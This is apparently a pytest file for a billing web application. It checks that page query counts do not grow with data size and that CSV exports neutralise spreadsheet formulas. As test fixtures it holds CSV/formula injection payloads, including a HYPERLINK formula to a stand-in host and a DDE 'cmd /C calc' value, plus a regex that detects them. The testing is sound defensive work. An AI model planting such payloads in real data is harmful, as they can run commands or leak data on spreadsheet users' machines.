"""A page sends as many statements for a nation as for three trusts."""

import csv
import html
import io
import re
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest
from flask.testing import FlaskClient
from sqlalchemy import event
from sqlalchemy.engine import make_url

from benchmarks.nation import copy_accounts
from billing.access.model import Grant, Role
from metering.kit.db import Database
from tests import databases, trusts, web
from tests.crawling import crawl
from tests.test_every_route import path_of, rules
from tests.trusts import ODS, Shown

MOST = 45
"""Statements of any page; the few with most show a dozen different things."""

COPIES = 20
HOSTILE = {
    trusts.ODS: '=HYPERLINK("https://x.example/"&A1,"Pay here")',
    trusts.OTHER_ODS: "@SUM(1+1)*cmd|' /C calc'!A0",
    trusts.THIRD_ODS: "-2+3\n+44 Trust",
}
CENTRAL = (Role.ANALYST, Role.APPROVER, Role.AUDITOR, Role.ADMINISTRATOR)
# A row more on the page may be a look-up more: an invoice's own lines, not the list's.
LEEWAY = 1


class Counted:
    """How many statements an application sent, told by engine."""

    def __init__(self, database: Database) -> None:
        self.sent = 0
        event.listen(database.engine, "before_cursor_execute", self._count)

    def _count(self, *_: Any) -> None:
        self.sent += 1


def counts(client: FlaskClient, counted: Counted, addresses: list[str]) -> dict[str, int]:
    """Return how many statements each page sends when it is asked for again."""
    found = {}
    for address in addresses:
        client.get(address)
        before = counted.sent
        assert client.get(address).status_code == 200, address
        found[address] = counted.sent - before
    return found


@pytest.fixture(scope="module")
def nation(
    server_urls: tuple[str, str | None],
    template_name: str,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Shown]:
    """Three trusts, two of them twenty-one times, with names that a spreadsheet would run."""
    server_url, admin_url = server_urls
    if admin_url is None:
        pytest.skip("only a superuser copies rows past triggers")
    folder = tmp_path_factory.mktemp("nation")
    with trusts.shown(server_url, template_name, folder, names=HOSTILE) as found:
        name = make_url(str(found.database.engine.url)).database
        assert name is not None
        with psycopg.connect(databases.url_of(admin_url, name), autocommit=True) as connection:
            connection.execute("SET session_replication_role = replica")
            copy_accounts(connection, COPIES)
            connection.execute("ANALYZE")
        yield found


@pytest.mark.parametrize("who", ["central", "trust"])
def test_no_page_sends_more_statements_for_more_rows(shown: Shown, nation: Shown, who: str) -> None:
    measured = []
    addresses: list[str] = []
    for where in (shown, nation):
        browser = (
            where.browser(*map(Grant, CENTRAL))
            if who == "central"
            else where.finance(ODS, Role.FINANCE_EDITOR)
        )
        with where.app.app_context():
            counted = Counted(web.edge().database)
        if not addresses:
            start = ["/console/"] if who == "central" else [f"/portal/{ODS}/"]
            pages = crawl(browser, start, most=1_000, depth=1 if who == "central" else 2)
            addresses = [one for one, text in pages.items() if "<html" in text]
        # Ids differ from one database to the other; what has none is the same page.
        plain = [one for one in addresses if not any(mark in one for mark in ("_0", "/inv_"))]
        measured.append(counts(browser, counted, plain))
    small, large = measured
    assert len(small) > 12
    grown = {
        address: (few, large[address])
        for address, few in small.items()
        if large[address] > few + LEEWAY
    }
    assert not grown, f"more statements for more rows: {grown}"
    busy = {address: sent for address, sent in large.items() if sent > MOST}
    assert not busy, f"more than {MOST} statements: {busy}"


FORMULA = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
DOWNLOAD = re.compile(r'href="([^"]*(?:download=|\.csv)[^"]*)"')


def test_no_download_has_a_cell_that_a_spreadsheet_would_run(nation: Shown) -> None:
    """Every CSV that any page offers, with trusts whose names are formulas."""
    central = nation.browser(*map(Grant, CENTRAL))
    trust = nation.finance(ODS, Role.FINANCE_EDITOR)
    found: dict[str, bytes] = {}
    for rule, _ in rules(nation.app, "GET"):
        path = path_of(rule)
        if path.startswith("/portal/"):
            browser = trust
        elif path.startswith(("/console/", "/users")):
            browser = central
        else:
            continue
        page = browser.get(path)
        offered = DOWNLOAD.findall(page.text) if page.mimetype == "text/html" else []
        for link in [*offered, *([path] if path.endswith(".csv") else [])]:
            address = html.unescape(link)
            if address.startswith("?"):
                address = f"{path}{address}"
            answer = browser.get(address)
            if answer.mimetype == "text/csv":
                found[address] = answer.data
    invoice = f"/portal/{ODS}/invoices/{nation.invoice_ids[ODS]}/documents"
    for name in ("lines", "usage", "focus", "journal"):
        answer = trust.get(f"{invoice}/{name}")
        assert answer.mimetype == "text/csv", name
        found[f"{invoice}/{name}"] = answer.data
    assert len(found) > 20, sorted(found)
    named = 0
    for address, content in found.items():
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
            for cell in row:
                assert not FORMULA.match(cell) or NUMBER.fullmatch(cell), f"{address}: {cell!r}"
                named += "HYPERLINK" in cell or "SUM(" in cell
    assert named > 20


def test_a_page_sends_what_is_counted(shown: Shown) -> None:
    with shown.app.app_context():
        counted = Counted(web.edge().database)
    browser = shown.finance(ODS)
    assert counts(browser, counted, [f"/portal/{ODS}/"])[f"/portal/{ODS}/"] > 5
